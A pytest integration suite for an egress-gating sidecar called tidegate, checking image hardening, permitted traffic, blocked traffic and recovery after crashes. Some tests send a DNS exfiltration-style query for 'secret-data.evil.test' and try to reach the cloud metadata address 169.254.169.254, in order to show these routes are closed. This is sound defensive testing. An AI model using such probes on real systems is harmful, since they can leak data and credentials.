"""`docker compose up` as it is shipped: a real engine, the sandbox's names lead to the gate, the rest leads nowhere."""

import json
import os
import re
import signal
import subprocess
import time
from collections.abc import Callable, Iterator

import pytest
import yaml

from tests.lab.engine import ROOT, Engine, Stack, why_no_engine
from tests.lab.gate import environment, tidegate_command
from tests.lab.sidecar import (
    API,
    CODE,
    HOME,
    INDEX,
    OTHER,
    PROBE,
    TOKEN,
    Outside,
    assert_closed,
    host_hears,
    probe_card,
    recipe,
)

pytestmark = [
    pytest.mark.skipif(why_no_engine() is not None, reason=f"no container engine: {why_no_engine()}"),
    pytest.mark.timeout(300),
]

GATE, SANDBOX = "172.30.9.2", "172.30.9.3"


def test_compose_builds_both_images_from_the_checkout(docker: Engine) -> None:
    made = Stack(docker, ROOT / "compose.yaml", "built", {})
    base = ("--build-arg", "BASE=lab-base", "--build-arg", "BUILDER=lab-builder", "--build-arg", "TOOLS=lab-base")
    made.compose("build", *base, "keeper", timeout=200)
    made.compose("build", "--build-arg", "BASE=lab-sandbox", "sandbox")
    version = ("run", "--rm", "--network", "none", "tidegate", "--version")
    assert docker.docker(*version).stdout.startswith("tidegate ")
    assert docker.inspect("tidegate-sandbox")["Config"]


@pytest.fixture(scope="module")
def stack(docker: Engine, beyond: Outside) -> Iterator[Stack]:
    with recipe(docker, beyond, ROOT / "compose.yaml", project="by-name") as made:
        made.up()
        yield made


# -- the image -------------------------------------------------------------------------------------


@pytest.mark.parametrize("file", ["gate.yaml", "native-sidecar.yaml"])
def test_the_folders_of_the_kubernetes_pods_can_be_made(docker: Engine, file: str) -> None:
    manifest = ROOT / "docs" / "recipes" / "kubernetes" / file
    pods = [one for one in yaml.safe_load_all(manifest.read_text()) if one["kind"] in ("Pod", "Deployment")]
    spec = pods[0]["spec"] if pods[0]["kind"] == "Pod" else pods[0]["spec"]["template"]["spec"]
    [folders] = [one for one in spec["initContainers"] if one["name"] == "folders"]
    held = folders["securityContext"]["capabilities"]
    flags = [f"--cap-drop={held['drop'][0]}", *(f"--cap-add={one}" for one in held["add"]), "--read-only"]
    flags += [f"--tmpfs={mount['mountPath']}:mode=0777" for mount in folders["volumeMounts"]]
    script = folders["args"][0] + "stat -c '%n %u %g %a' . keeper gate audit sandbox"
    done = docker.docker(
        "run", "--rm", "--network", "none", "--user", "0", *flags, "--entrypoint", "sh", "tidegate", "-ec", script
    )
    assert done.stdout.splitlines() == [
        ". 64731 64731 755", "keeper 64731 64731 700", "gate 64732 64732 755", "audit 64731 64732 1770",
        "sandbox 64731 64731 755",
    ]  # fmt: skip


def test_the_image_is_small(docker: Engine) -> None:
    assert docker.inspect("tidegate")["Size"] < 250_000_000


def test_the_image_has_nothing_that_is_not_needed(docker: Engine) -> None:
    unwanted = (
        "/usr/share/doc /usr/share/man /usr/share/locale /var/lib/apt/lists /usr/bin/apt-get /usr/bin/dpkg "
        "/usr/bin/perl /usr/sbin/nft /usr/bin/curl"
    )
    script = (
        f"for path in {unwanted}; do if [ -e $path ]; then echo $path; fi; done; "
        "find / -xdev \\( -name pip -type d -o -perm /6000 -type f -o -name mitmdump -o -name ensurepip \\) -print"
    )
    done = docker.docker(
        "run", "--rm", "--network", "none", "--user", "0", "--entrypoint", "sh", "tidegate", "-c", script
    )
    assert done.stdout == ""


def test_the_image_is_run_as_no_root_and_optimized(docker: Engine) -> None:
    image = docker.inspect("tidegate")["Config"]
    assert image["User"] == "64732:64732"
    assert image["Healthcheck"]["Test"] == ["CMD", "tidegate", "health"]
    script = "head -n1 /opt/tidegate/bin/tidegate"
    done = docker.docker("run", "--rm", "--read-only", "--entrypoint", "sh", "tidegate", "-c", script)
    assert "-OP" in done.stdout


# -- what passes -----------------------------------------------------------------------------------


def test_a_healthy_sidecar_within_six_seconds(docker: Engine, beyond: Outside) -> None:
    with recipe(docker, beyond, ROOT / "compose.yaml", project="timed") as made:
        text = made.file.read_text().replace("172.30.9.", "172.30.8.")
        made.file.write_text(text)
        settings = made.file.parent / "compose" / "gate" / "tidegate.yaml"
        settings.write_text(settings.read_text().replace("172.30.9.", "172.30.8."))
        begun = time.monotonic()
        made.up("gate", "keeper")
        made.wait_healthy("gate", seconds=6)
        assert time.monotonic() - begun < 6


def test_no_proxy_variable_and_no_capability(stack: Stack) -> None:
    done = stack.sh("sandbox", "env; echo; cat /proc/self/status; id -u")
    assert not re.search(r"(?im)^(https?|all|ftp)_proxy=", done.stdout)
    assert re.search(r"CapEff:\s0+\n", done.stdout)
    assert re.search(r"CapBnd:\s0+\n", done.stdout)
    assert re.search(r"NoNewPrivs:\s1\n", done.stdout)
    assert done.stdout.endswith("65534\n")


def test_curl(stack: Stack) -> None:
    done = stack.sh("sandbox", f"curl -sS -m 10 https://{API}/open/hi")
    assert (done.returncode, done.stdout) == (0, "hello"), done.stderr


def test_git_clones_with_a_token_that_it_never_sees(stack: Stack) -> None:
    done = stack.sh("sandbox", f"cd /tmp && rm -rf demo && git clone -q https://{CODE}/acme/demo.git && ls demo && env")
    assert done.returncode == 0, done.stderr
    assert "file1.txt" in done.stdout
    assert "CODE_TOKEN=" in done.stdout
    assert TOKEN not in done.stdout


def test_pip_installs(stack: Stack) -> None:
    install = f"pip install -q --no-cache-dir --index-url https://{INDEX}/simple tidy-demo"
    done = stack.sh("sandbox", f"{install} && python3 -c 'import tidy_demo; print(tidy_demo.__file__)'")
    assert done.returncode == 0, done.stderr
    assert "tidy_demo.py" in done.stdout


# -- what does not ---------------------------------------------------------------------------------


def test_a_name_that_no_rule_names_leads_nowhere(stack: Stack, beyond: Outside) -> None:
    assert stack.sh("sandbox", f"curl -sS -m 10 https://{OTHER}/").returncode == 6
    done = stack.sh("sandbox", f"curl -sS -m 10 --connect-to {OTHER}:443:{GATE}:443 https://{OTHER}/")
    assert json.loads(done.stdout)["reason"] == "not_in_allowlist"
    assert beyond.other.connections == 0
    assert beyond.dns.count(OTHER) == 0


def test_a_path_that_no_rule_names_is_told(stack: Stack) -> None:
    done = stack.sh("sandbox", f"curl -sS -m 10 https://{API}/closed")
    assert json.loads(done.stdout)["reason"] == "path_not_allowed"


def test_the_probe_finds_nothing_open(stack: Stack) -> None:
    assert_closed(probe_card(stack, "sandbox"), "by name")


def test_the_probe_enters_a_running_container_by_the_engine_it_finds(stack: Stack) -> None:
    given = ("--in", stack.container("sandbox"), "--allowed", f"{API}/open/hi", "--denied", OTHER, "--seconds", "1")
    done = subprocess.run(
        tidegate_command("probe", *given, "-o", "json"),
        env={**environment(), **stack.engine.environment}, capture_output=True, text=True, timeout=90, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert_closed(json.loads(done.stdout), "by name")


def test_the_probe_finds_ways_out_of_a_container_that_is_no_sandbox(docker: Engine, beyond: Outside) -> None:
    flags = ("--rm", "--interactive", "--cap-drop", "ALL", "--user", "65534")
    command = ("run", *flags, "lab-sandbox", "python3", "-", "--json", "--seconds", "1")
    card = json.loads(docker.docker(*command, stdin=PROBE, check=False, timeout=100).stdout)
    found = {way["way"] for way in card["ways"] if way["state"] == "open"}
    assert {"TCP 80 of 1.1.1.1", "TCP 443 of 1.1.1.1", "169.254.169.254", "UDP 53 of 1.1.1.1"} <= found


_ASK = """
import socket, struct, sys
question = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0)
question += b"".join(bytes([len(part)]) + part.encode() for part in sys.argv[2].split("."))
question += b"\\0" + struct.pack("!2H", 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.settimeout(4)
    try:
        sock.sendto(question, (sys.argv[1], 53))
        print("code", sock.recv(512)[3] & 15)
    except OSError as fault:
        print("nothing")
"""


def test_a_question_to_the_engines_own_resolver_leaves_only_by_the_gate(stack: Stack, beyond: Outside) -> None:
    for name in ("secret-data.evil.test", OTHER):
        before = len(beyond.dns.queries)
        done = stack.run_in("sandbox", "python3", "-c", _ASK, "127.0.0.11", name)
        assert done.stdout.strip() != "code 0", done
        assert len(beyond.dns.queries) == before, beyond.dns.queries[before:]
    assert stack.run_in("sandbox", "python3", "-c", _ASK, GATE, OTHER).stdout == "code 3\n"


def test_no_listener_of_the_host_is_reached(stack: Stack) -> None:
    assert host_hears(stack, "sandbox") == []
    # The listener is there: the gate, which is let out, would reach it.
    assert host_hears(stack, "gate", python="/opt/tidegate/bin/python3")


# -- the halves apart ------------------------------------------------------------------------------


def test_the_gate_has_no_key_and_no_secret_on_its_disk(stack: Stack) -> None:
    for path in ("/var/lib/tidegate/keeper/seal.key", "/run/secrets/github"):
        assert stack.run_in("keeper", "wc", "-c", path).returncode == 0
        assert stack.run_in("gate", "wc", "-c", path).returncode != 0
        assert stack.run_in("sandbox", "wc", "-c", path).returncode != 0
    assert stack.run_in("gate", "touch", "/var/lib/tidegate/x").returncode != 0, "the state is the keeper's"


def test_the_keeper_has_no_network(stack: Stack) -> None:
    assert stack.run_in("keeper", "cat", "/proc/net/route").stdout.count("\n") <= 1


def test_the_sandbox_has_its_own_folder_and_cannot_write_there(stack: Stack) -> None:
    assert stack.run_in("sandbox", "ls", "/tidegate").stdout.split() == ["bundle.pem", "ca.pem", "env"]
    for command in ("touch /tidegate/x", "echo x >>/tidegate/env", "touch /x"):
        assert stack.run_in("sandbox", "sh", "-c", command).returncode != 0


def test_no_danger_is_said(stack: Stack) -> None:
    for half in ("gate", "keeper"):
        done = stack.run_in(half, "tidegate", "health")
        assert (done.stdout, done.stderr) == ("ready\n", "")


def test_the_doctor_knows_which_half_it_is_in(stack: Stack) -> None:
    for half in ("gate", "keeper"):
        done = stack.run_in(half, "tidegate", "doctor")
        assert done.returncode == 0, done
        assert "shared_uid" not in done.stderr
        assert ("secret code" in done.stdout) == (half == "keeper")


def test_the_log_is_whole_and_read_by_the_keepers_user(stack: Stack) -> None:
    stack.sh("sandbox", f"curl -sS -m 10 https://{API}/open/hi")
    done = stack.run_in("keeper", "tidegate", "log", "-o", "json", "--verdict", "allow")
    hosts = {json.loads(line)["http"]["host"] for line in done.stdout.splitlines() if '"http":{' in line}
    assert API in hosts
    assert stack.run_in("keeper", "tidegate", "audit", "verify").returncode == 0


# -- when a half ends ------------------------------------------------------------------------------


def _pid(stack: Stack, service: str) -> int:
    return int(stack.engine.inspect(stack.container(service))["State"]["Pid"])


def _reaches_nothing(stack: Stack) -> None:
    for url in (f"https://{HOME}/open/hi", "http://1.1.1.1/", "http://169.254.169.254/", f"https://{API}/open/hi"):
        done = stack.run_in("sandbox", "curl", "-sSk", "-m", "1", url)
        assert done.returncode in (6, 7, 28), (url, done)


def test_a_killed_gate_takes_its_flows_along_and_comes_back(stack: Stack, beyond: Outside) -> None:
    beyond.server.gate_events()
    name = stack.container("sandbox")
    script = f". /tidegate/env; exec curl -sS -N https://{API}/sse/50"
    command = stack.engine_command("exec", name, "sh", "-c", script)
    with subprocess.Popen(
        command, env=stack.engine.environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as flow:
        beyond.server.release_event()
        assert flow.stdout is not None
        assert flow.stdout.read(4)
        before = _pid(stack, "gate")
        os.kill(before, signal.SIGKILL)
        assert flow.wait(10) != 0, "a flow outlived its gate"
    _wait_until(lambda: _pid(stack, "gate") not in (0, before))
    stack.wait_healthy("gate")
    assert stack.sh("sandbox", f"curl -sS -m 10 https://{API}/open/hi").stdout == "hello"


def test_nothing_leaks_while_the_gate_is_down(stack: Stack, docker: Engine, beyond: Outside) -> None:
    gate = stack.container("gate")
    docker.docker("stop", "--time", "1", gate)
    before = beyond.server.connections
    try:
        _reaches_nothing(stack)
        for name in (API, "secret-data.evil.test"):
            asked = len(beyond.dns.queries)
            assert stack.run_in("sandbox", "python3", "-c", _ASK, "127.0.0.11", name).stdout.strip() != "code 0"
            assert len(beyond.dns.queries) == asked
    finally:
        docker.docker("start", gate)
    assert beyond.server.connections == before
    stack.wait_healthy("gate")
    assert stack.sh("sandbox", f"curl -sS -m 10 https://{API}/open/hi").stdout == "hello"


def test_a_killed_keeper_comes_back_and_the_gate_stays(stack: Stack) -> None:
    told = stack.sh("sandbox", "printf %s $CODE_TOKEN").stdout
    gate, before = _pid(stack, "gate"), _pid(stack, "keeper")
    os.kill(before, signal.SIGKILL)
    _wait_until(lambda: _pid(stack, "keeper") not in (0, before))
    stack.wait_healthy("keeper")
    stack.wait_healthy("gate")
    done = stack.sh(
        "sandbox", f"cd /tmp && rm -rf again && git clone -q https://{CODE}/acme/demo.git again && ls again"
    )
    assert "file1.txt" in done.stdout, done.stderr
    assert stack.sh("sandbox", "printf %s $CODE_TOKEN").stdout == told
    assert _pid(stack, "gate") == gate


def test_the_log_is_whole_after_all_that(stack: Stack) -> None:
    done = stack.run_in("keeper", "tidegate", "audit", "verify")
    assert done.returncode == 0, done.stderr


def _wait_until(holds: Callable[[], bool], *, seconds: float = 20) -> None:
    end = time.monotonic() + seconds
    while not holds():
        assert time.monotonic() < end, "it did not come to hold"
        time.sleep(0.1)
